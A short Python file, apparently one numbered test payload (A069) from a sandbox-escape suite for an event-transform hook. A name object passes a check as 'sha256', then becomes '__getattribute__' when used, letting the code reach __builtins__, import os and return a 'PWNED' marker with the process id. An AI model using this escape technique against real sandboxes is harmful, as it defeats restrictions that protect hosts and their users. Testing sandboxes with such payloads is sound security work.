# id: A069
# goal: be one name when it is checked and another when it is looked up, and leave by the module's own doors
import hashlib


class Name:
    def __init__(self):
        self.looks = 0

    def lower(self):
        self.looks += 1
        return "sha256" if self.looks == 1 else "__getattribute__"


def transformEvent(event, metadata):
    names = hashlib.new(Name(), "__builtins__")
    system = names["__import__"]("os")
    return {"x": "PWNED-A069 " + str(names["getattr"](system, "getpid")())}
